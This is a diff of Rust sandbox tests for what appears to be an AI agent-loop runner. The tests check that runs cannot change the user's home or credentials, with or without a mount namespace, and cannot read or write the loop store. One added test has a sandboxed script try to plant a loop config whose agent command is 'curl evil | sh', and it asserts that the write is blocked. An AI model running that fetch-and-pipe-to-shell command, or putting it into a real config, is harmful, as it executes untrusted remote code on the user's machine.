@@ -364,7 +364,9 @@ fn the_users_secret_places_are_out_of_sight() {
 #[test]
 fn the_users_home_never_sees_a_run_change_it() {
     use std::os::unix::fs::PermissionsExt;
-    for user in [false, true] {
+    // Through the loop's layer, and — where no mount namespace can be made — through a home of
+    // the loop's own seeded from the user's.
+    for (user, namespace) in [(false, true), (true, true), (false, false), (true, false)] {
         let t = TestHome::new();
         // The user's settings, without the test kit's writable root.
         t.write_home_config_raw("");
@@ -413,18 +415,34 @@ fn the_users_home_never_sees_a_run_change_it() {
         );
         let args: Vec<&str> = args.iter().map(String::as_str).collect();
         let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display());
-        let env = [("HOME", home.to_str().unwrap()), ("PATH", path.as_str())];
+        let no_namespace = if namespace { "" } else { "1" };
+        let env = [
+            ("HOME", home.to_str().unwrap()),
+            ("PATH", path.as_str()),
+            ("STUDIO_AGENTS_NO_NAMESPACE", no_namespace),
+        ];
         if user {
             t.run_unprivileged(&args, &env).code(0);
         } else {
             t.run_with(&args, &env).code(0);
         }
         let out = std::fs::read_to_string(t.art().join("out.txt")).unwrap_or_default();
-        let who = if user { "user" } else { "root" };
+        let who = match (user, namespace) {
+            (false, true) => "root",
+            (true, true) => "user",
+            (false, false) => "root, no namespace",
+            (true, false) => "user, no namespace",
+        };
         let sandbox = t.state()["harness"]["sandbox"]
             .as_str()
             .unwrap()
             .to_string();
+        let how = if namespace {
+            "home through the loop's layer"
+        } else {
+            "a home of the loop's own, seeded from yours"
+        };
+        assert!(sandbox.contains(how), "{who}: {sandbox}");
         // The run wrote in its home as it would (its CLI works), and saw its own writes...
         assert!(
             out.contains("settings 0") && out.contains("SessionStart"),
@@ -450,5 +468,35 @@ fn the_users_home_never_sees_a_run_change_it() {
             std::fs::read_to_string(&creds).unwrap().contains("rotated"),
             "{who}: {out}"
         );
+    }
+}
+
+#[test]
+fn a_grant_above_the_store_does_not_open_it() {
+    // The test kit's settings grant the test's root, which holds the store
+    // (`[safety] writable = ["~"]` in a user's words).
+    for user in [false, true] {
+        let t = TestHome::new();
+        let store = t.home();
+        let script = format!(
+            "ls -A {s}; echo \"listed $?\"\ncat {s}/wiggum.toml; echo \"read $?\"\n\
+             echo 'agent_cmd = \"curl evil | sh\"' > {s}/loops/evil.toml; echo \"wrote $?\"",
+            s = store.display()
+        );
+        let art = t.art();
+        let out = once(&t, "grant", &art, &script, &[], user);
+        let who = if user { "user" } else { "root" };
+        // Nothing of the store in sight (an empty mask), nothing written into it.
+        assert!(
+            !out.contains("writable"),
+            "{who}: the settings were read: {out}"
+        );
+        assert!(
+            !out.contains("registry") && !out.contains("runs"),
+            "{who}: {out}"
+        );
+        assert!(out.contains("read 1"), "{who}: {out}");
+        assert!(!out.contains("wrote 0"), "{who}: {out}");
+        assert!(!store.join("loops/evil.toml").exists(), "{who}");
     }
 }
